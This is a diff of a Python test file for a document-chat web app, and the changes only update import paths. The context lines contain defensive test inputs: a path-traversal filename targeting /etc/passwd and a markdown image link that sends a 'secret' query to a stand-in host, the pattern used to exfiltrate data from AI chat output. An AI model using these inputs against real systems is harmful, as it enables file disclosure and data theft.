@@ -37,7 +37,7 @@ LAST_BOT_MESSAGE = "document.querySelectorAll('#chat [data-testid=\"bot\"]')"
 
 
 def test_safe_pdf_name_keeps_uploads_inside_the_folder():
-    from rag.web.uploads import UploadError, safe_pdf_name
+    from rag.ingest.uploads import UploadError, safe_pdf_name
 
     assert safe_pdf_name("Annual report (2023).pdf") == "Annual report (2023).pdf"
     assert safe_pdf_name("../../etc/passwd") == "passwd.pdf"
@@ -49,7 +49,7 @@ def test_safe_pdf_name_keeps_uploads_inside_the_folder():
 
 
 def test_store_uploads_checks_magic_size_and_names(tmp_path, make_pdf):
-    from rag.web.uploads import store_uploads
+    from rag.ingest.uploads import store_uploads
 
     good = make_pdf("in/report.pdf", ["Some text."], folder=tmp_path)
     fake = tmp_path / "fake.pdf"
@@ -307,7 +307,7 @@ def test_browser_chat_sources_upload_stop_and_clear(chromium, web_server, tmp_pa
 
 
 def test_uploads_never_overwrite_an_existing_document(tmp_path, make_pdf):
-    from rag.web.uploads import store_uploads
+    from rag.ingest.uploads import store_uploads
 
     first = make_pdf("in1/report.pdf", ["First report."], folder=tmp_path)
     second = make_pdf("in2/report.pdf", ["A different report."], folder=tmp_path)
@@ -354,7 +354,7 @@ def test_loaded_models_are_bounded(settings):
 
 def test_retriever_built_once_per_index_version_and_reloaded_after_a_cli_ingest(settings, make_pdf, embeddings,
                                                                                 llm_backend):
-    from rag.ingest import ingest
+    from rag.ingest.pipeline import ingest
     from rag.web.engine import Engine
 
     make_pdf("kites.pdf", ["The Zephyr Kite Company employs 1,234 people."])
@@ -391,7 +391,7 @@ def test_uploads_are_parsed_in_a_worker_with_a_time_limit(settings, make_pdf, em
 
 
 def test_answers_and_questions_are_shown_inert():
-    from rag.qa import Answer
+    from rag.answer.answerer import Answer
     from rag.web.ui import answer_markdown, inert_markdown
 
     evil = "See ![x](http://203.0.113.9/?q=secret) and [here](http://203.0.113.9/) or <img src=http://a/b>."
